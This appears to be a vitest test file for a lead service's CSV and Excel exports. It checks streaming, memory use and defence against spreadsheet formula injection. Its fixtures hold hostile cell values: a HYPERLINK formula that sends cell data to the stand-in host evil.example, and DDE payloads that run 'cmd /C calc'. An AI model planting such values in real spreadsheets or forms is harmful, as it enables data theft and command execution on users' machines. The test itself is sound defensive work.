/**
 * An export of 50,000 leads, CSV and Excel: it streams (the first bytes come
 * before the service has read the leads, and a client that stops reading stops
 * the service reading), every lead is in it once, and no cell can run as a
 * formula. The leads are four posted to /addLead, hostile ones among them,
 * copied in one INSERT … SELECT to make up the 50,000, each with its email
 * notification as the store writes it.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { Readable } from 'node:stream';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import type { MockInstance } from 'vitest';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { BACKENDS, countEnquiries } from './databases';
import type { SignedIn, StaffHarness } from './staff-harness';
import { staffHarness } from './staff-harness';

const TOTAL = 50_000;
/** The rows each export reads from the database at a time (server/staff/inbox-store.ts, export.ts). */
const PAGE = { csv: 1000, xlsx: 250 };

/** Posted as the site's forms would: names, phones and remarks a spreadsheet would take for formulas. */
const HOSTILE = [
  {
    name: '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    phone: '98110 12345',
    remark: '@SUM(1+1)*cmd|" /C calc"!A0',
  },
  { name: '+Plus Sign', phone: '+91 98110 12345', remark: '-2+3+cmd|" /C calc"!A0' },
  { name: '-Minus Sign', phone: '98110 54321', remark: 'An ordinary remark' },
  { name: '@At Sign', phone: '+44 20 7946 0958', remark: '=1+2' },
];

// Memory is measured after a full garbage collection, so that it counts what is held, not what is left.
setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

/** How `npm run leads` and the CSV export make a cell inert: a leading apostrophe. */
const inert = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

/** Each phone above as both exports write it: as dialled from India, which Excel reads as text. */
const SHEET_PHONES: Record<string, string> = {
  '98110 12345': '98110 12345',
  '+91 98110 12345': '98110 12345',
  '98110 54321': '98110 54321',
  '+44 20 7946 0958': '0044 20 7946 0958',
};

interface Expected {
  name: string;
  phone: string;
  remark: string;
}

describe.each(BACKENDS)('an export of 50,000 leads on %s', (backend) => {
  let harness: StaffHarness;
  let admin: SignedIn;
  let expected: Map<string, Expected>;
  let reads: MockInstance;

  /** How many pages of the export the service has read from the database so far. */
  const pagesRead = (kind: 'csv' | 'xlsx') =>
    reads.mock.calls.filter(([text]) => String(text).includes(`LIMIT ${PAGE[kind]}`)).length;

  /** Waits until the service stops reading (it has nothing to do until the client reads on); returns the pages read. */
  async function settledPages(kind: 'csv' | 'xlsx'): Promise<number> {
    let last = -1;
    let steady = 0;
    while (steady < 10) {
      await new Promise((done) => setTimeout(done, 50));
      const now = pagesRead(kind);
      steady = now === last ? steady + 1 : 0;
      last = now;
    }
    return last;
  }

  beforeAll(async () => {
    harness = await staffHarness(backend);
    admin = await harness.signedIn('admin', 'Asha Admin');
    for (const lead of HOSTILE) await harness.postLead({ ...lead, project: 'Paras Floret' });
    const copies = (TOTAL - HOSTILE.length) / HOSTILE.length;
    await harness.db.query(
      `INSERT INTO enquiries (kind, form, submission_id, fingerprint, name, email, phone, project, source, fields,
                              page, referrer, utm, user_agent, received_at)
       SELECT e.kind, e.form, e.submission_id || '-' || g, e.fingerprint, e.name || ' ' || g, g || e.email, e.phone,
              e.project, e.source, e.fields || jsonb_build_object('remark', (e.fields->>'remark') || ' ' || md5(g::text)),
              e.page, e.referrer, e.utm, e.user_agent, e.received_at - make_interval(secs => g)
         FROM enquiries e, generate_series(1, $1::int) g`,
      [copies],
    );
    await harness.db.query(
      `INSERT INTO notifications (enquiry_id, channel, delivered_at)
       SELECT id, 'email', now() FROM enquiries e
        WHERE NOT EXISTS (SELECT 1 FROM notifications n WHERE n.enquiry_id = e.id)`,
    );
    expect(await countEnquiries(harness.db)).toBe(TOTAL);
    const rows = await harness.db.query<Expected & { id: string }>(
      "SELECT id, name, phone, fields->>'remark' AS remark FROM enquiries",
    );
    expected = new Map(rows.map(({ id, ...row }) => [id, row]));
  }, 180_000);
  afterAll(() => harness.close());

  beforeAll(() => {
    reads = vi.spyOn(harness.db, 'query');
  });
  afterEach(() => reads.mockClear());
  afterAll(() => reads.mockRestore());

  /**
   * Checks exported rows against what was stored: each lead once, its cells as `shown` writes
   * them. Differences are collected and compared once: an expect per cell would cost more than the export.
   */
  function rowChecker(shown: (stored: string) => string) {
    const seen = new Set<string>();
    const wrong: string[] = [];
    return {
      check(id: string, value: (column: string) => unknown) {
        const lead = expected.get(id);
        if (lead === undefined || seen.has(id)) wrong.push(`${id}: not a lead, or a second time`);
        seen.add(id);
        const cells = {
          Name: shown(lead?.name ?? ''),
          Phone: SHEET_PHONES[lead?.phone ?? ''],
          Details: shown(lead?.remark ?? ''),
        };
        for (const [column, written] of Object.entries(cells))
          if (value(column) !== written) wrong.push(`${id} ${column}: ${String(value(column))}`);
      },
      done() {
        expect(wrong).toEqual([]);
        expect(seen.size).toBe(TOTAL);
      },
    };
  }

  const exportOf = async (kind: 'csv' | 'xlsx') => {
    const response = await harness.request(`/staff/api/leads/export.${kind}`, { as: admin });
    expect(response.status).toBe(200);
    if (response.body === null) throw new Error('The export has no body.');
    return { response, reader: response.body.getReader() };
  };

  it.each(['csv', 'xlsx'] as const)(
    '%s: a client that stops reading stops the service reading leads, and memory with it; one that goes away ends it',
    async (kind) => {
      gc();
      gc();
      const before = process.memoryUsage();
      const { reader } = await exportOf(kind);
      expect((await reader.read()).done).toBe(false);
      const paused = await settledPages(kind);
      gc();
      const after = process.memoryUsage();
      // A few reads ahead of the client at most (the zip's buffers, for Excel): not the whole export.
      expect(paused * PAGE[kind]).toBeLessThanOrEqual(TOTAL / 20);
      // What the service holds for it meanwhile, JavaScript objects and buffers alike, is a small
      // part of the export (the CSV of these leads is 10 MB; an Excel writer that does not wait
      // for the client holds 86 MB here).
      expect(after.heapUsed + after.external - before.heapUsed - before.external).toBeLessThan(5 * 2 ** 20);
      await reader.cancel();
      expect(await settledPages(kind)).toBeLessThanOrEqual(paused + 1);
    },
    60_000,
  );

  it('csv: the first bytes come before the leads are read; every lead is there once, no cell a formula', async () => {
    const { response, reader } = await exportOf('csv');
    const first = await reader.read();
    // The heading line comes before a single lead is read.
    expect(pagesRead('csv')).toBe(0);
    const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
    let text = decoder.decode(first.value, { stream: true });
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read())
      text += decoder.decode(chunk.value, { stream: true });
    text += decoder.decode();

    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="enquiries-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(text.startsWith('\uFEFFReceived (IST),Kind,Name,Phone,Email,Project,Details,')).toBe(true);
    const { data, errors } = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(errors).toEqual([]);
    const [header = [], ...rows] = data;
    const column = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(TOTAL);
    const checker = rowChecker(inert);
    let formulaCells = 0;
    for (const row of rows) {
      checker.check(row[column('Id')] ?? '', (name) => row[column(name)]);
      formulaCells += row.filter((cell) => /^[=+\-@]/.test(cell)).length;
    }
    checker.done();
    expect(formulaCells).toBe(0);
    expect(pagesRead('csv')).toBe(TOTAL / PAGE.csv + 1);
  }, 120_000);

  it('xlsx: every lead is there once, every cell text or a date (never a formula) holding what was stored', async () => {
    const { response, reader } = await exportOf('xlsx');
    const first = await reader.read();
    expect(pagesRead('xlsx')).toBeLessThan(TOTAL / PAGE.xlsx / 10);
    async function* bytes() {
      if (first.value !== undefined) yield first.value;
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) yield chunk.value;
    }
    expect(response.headers.get('Content-Type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );

    const book = new ExcelJS.stream.xlsx.WorkbookReader(Readable.from(bytes()), {
      worksheets: 'emit',
      sharedStrings: 'cache',
      hyperlinks: 'ignore',
      styles: 'ignore',
    });
    let header: string[] = [];
    const checker = rowChecker((stored) => stored);
    const notText: string[] = [];
    for await (const sheet of book)
      for await (const row of sheet as unknown as AsyncIterable<ExcelJS.Row>) {
        const cells = (row.values as unknown[]).slice(1);
        if (row.number === 1) {
          header = cells as string[];
          continue;
        }
        // Text in every cell but the dates, which are Excel dates (serial numbers to a reader
        // that ignores the styles naming their format).
        cells.forEach((cell, column) => {
          const dated = ['Received (IST)', 'Follow-up'].includes(header[column] ?? '');
          if (cell !== undefined && typeof cell !== 'string' && !(dated && typeof cell === 'number'))
            notText.push(JSON.stringify(cell));
        });
        const value = (name: string) => cells[header.indexOf(name)];
        checker.check(String(value('Id')), value);
      }
    checker.done();
    expect(notText).toEqual([]);
  }, 180_000);
});
